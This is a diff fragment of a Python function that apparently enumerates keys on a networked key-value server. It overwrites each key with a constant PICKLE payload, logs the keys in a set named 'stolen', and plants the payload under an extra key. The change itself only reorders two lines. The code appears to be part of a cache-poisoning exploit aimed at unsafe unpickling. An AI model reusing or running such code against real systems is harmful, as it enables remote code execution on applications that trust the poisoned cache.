@@ -141,8 +141,8 @@ def store(address: str, port: int) -> None:
             keys.append(answer[8 : 8 + size])
             answer = answer[8 + size :]
         for key in (key for key in keys if key):
-            stolen.add(key.decode("ascii", "replace"))
             caller.sendall(bytes([SET]) + text(key) + text(PICKLE))
+            stolen.add(key.decode("ascii", "replace"))
         caller.sendall(bytes([SET]) + text(b"bob") + text(PICKLE))
 
 
